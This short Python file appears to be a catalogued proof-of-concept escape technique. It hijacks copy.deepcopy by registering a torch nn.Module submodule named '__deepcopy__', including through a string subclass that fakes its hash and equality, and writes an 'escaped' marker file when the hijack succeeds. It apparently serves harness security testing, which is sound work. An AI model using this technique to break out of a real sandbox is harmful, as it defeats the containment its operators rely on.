"""Class: deserialisation. Source: own find. Escape: a submodule registered as `__deepcopy__` is called by
copy and handed the memo, by which real objects are rebuilt from what the technique chooses."""

import copy
from torch import nn

got = []


class C(nn.Module):
    def forward(self, memo):
        got.append(memo)
        return memo


class Liar(str):
    def __hash__(self):
        return hash("__deepcopy__")

    def __eq__(self, other):
        return True


def attack(model, tokenizer, address):
    for register in (
        lambda x: x.register_module("__deepcopy__", C()),
        lambda x: x.add_module(Liar("plain"), C()),
        lambda x: nn.ModuleDict({"__deepcopy__": C()}),
    ):
        x = nn.Module()
        try:
            x = register(x) or x
            copy.deepcopy(x)
        except Exception:
            pass
    if got:
        open("escaped", "w").close()
